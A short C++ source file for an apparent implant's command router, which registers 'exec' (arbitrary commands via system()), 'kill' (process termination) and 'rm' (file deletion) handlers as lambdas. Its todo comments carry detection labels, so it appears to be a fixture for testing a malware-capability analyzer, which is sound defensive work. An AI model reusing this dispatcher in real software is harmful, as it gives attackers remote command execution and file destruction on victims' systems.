// Handlers registered as lambdas in a map of std::function.
#include "implant.h"
#include <tlhelp32.h>

Router::Router()
{
    Register("exec", [](const std::string &a) { return system(a.c_str()); }); // todo "remote-command/process-from-network" the lambda stored in m_routes is never linked to the call m_routes[verb](args)
    Register("kill", [](const std::string &a) {
        HANDLE h = OpenProcess(PROCESS_TERMINATE, FALSE, (DWORD)atoi(a.c_str()));
        return (int)TerminateProcess(h, 0);
    });
    Register("rm", [](const std::string &a) { return (int)DeleteFileA(a.c_str()); }); // todo "remote-command/file-operation-from-network" the same lambda link
}

void Router::Register(const std::string &verb, std::function<int(const std::string &)> fn)
{
    m_routes[verb] = fn;
}

int Router::Route(const std::string &verb, const std::string &args)
{
    if (m_routes.count(verb) == 0)
        return -1;
    return m_routes[verb](args); // todo "remote-command/dispatcher" the verbs are registered at run time (Register("exec", lambda)): no static table, no constant comparison
}
